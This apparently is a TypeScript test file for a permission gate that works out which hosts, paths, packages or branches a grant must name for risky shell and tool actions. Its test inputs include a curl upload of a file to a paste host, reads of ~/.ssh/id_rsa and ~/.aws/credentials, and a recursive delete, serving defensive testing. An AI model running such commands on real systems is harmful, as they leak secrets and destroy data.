import { describe, expect, it } from 'vitest';
import { PRESUMPTION_OF_DENIAL } from '../../core';
import { analyzeShellSync } from '../../shell';
import { shellEnv } from '../../shell/testdata/shell-env';
import { grantTargets } from './grant-targets';

const fromShell = (command: string) => {
  const shell = analyzeShellSync(command, shellEnv());
  const categories = [...new Set(shell.hits.map((h) => h.category))];
  return grantTargets({ categories, shell }, PRESUMPTION_OF_DENIAL).map((t) => [t.kind, t.names]);
};

describe('grantTargets from gavel’s own shell analysis', () => {
  it.each([
    [
      'the host of an upload',
      'curl -X POST --data-binary @notes.txt https://paste.example.net/up',
      [['host', ['paste.example.net']]],
    ],
    [
      'a secret read: as written, resolved, file name',
      'cat ~/.ssh/id_rsa',
      [['path', ['~/.ssh/id_rsa', '/home/u/.ssh/id_rsa', 'id_rsa']]],
    ],
    [
      'a recursive delete outside the workspace',
      'rm -rf /opt/app/cache',
      [['path', ['/opt/app/cache', 'cache']]],
    ],
    [
      'an install: the package and its source',
      'pip install --index-url https://pypi.corp.io/simple requests==2.0',
      [['package', ['requests', 'https://pypi.corp.io/simple', 'pypi.corp.io']]],
    ],
    [
      'a force push: destination and source branch',
      'git push -f origin feature:topic',
      [['branch', ['topic', 'feature']]],
    ],
    ['a force push past git options', 'git -C sub push --force origin topic', [['branch', ['topic']]]],
  ])('%s', (_name, command, want) => {
    expect(fromShell(command)).toEqual(want);
  });

  it('has nothing to name for a force push of the current branch', () => {
    expect(fromShell('git push --force')).toEqual([]);
  });

  it('skips categories that are not presumed denied', () => {
    expect(fromShell('git reset --hard')).toEqual([]);
  });
});

describe('grantTargets from a file or web tool', () => {
  it('is the host of a web fetch', () => {
    const t = grantTargets(
      {
        categories: ['outbound_network_to_unstated_host'],
        subject: { kind: 'host', host: 'collect.example.net' },
      },
      PRESUMPTION_OF_DENIAL,
    );
    expect(t).toEqual([
      { category: 'outbound_network_to_unstated_host', kind: 'host', names: ['collect.example.net'] },
    ]);
  });

  it('is the path of a secret read', () => {
    const t = grantTargets(
      { categories: ['secret_material_read'], subject: { kind: 'path', path: '~/.aws/credentials' } },
      PRESUMPTION_OF_DENIAL,
    );
    expect(t.map((x) => x.names)).toEqual([['~/.aws/credentials', 'credentials']]);
  });

  it('drops a name holding dynamic text', () => {
    const t = grantTargets(
      { categories: ['secret_material_read'], subject: { kind: 'path', path: '$HOME/$F' } },
      PRESUMPTION_OF_DENIAL,
    );
    expect(t).toEqual([]);
  });
});
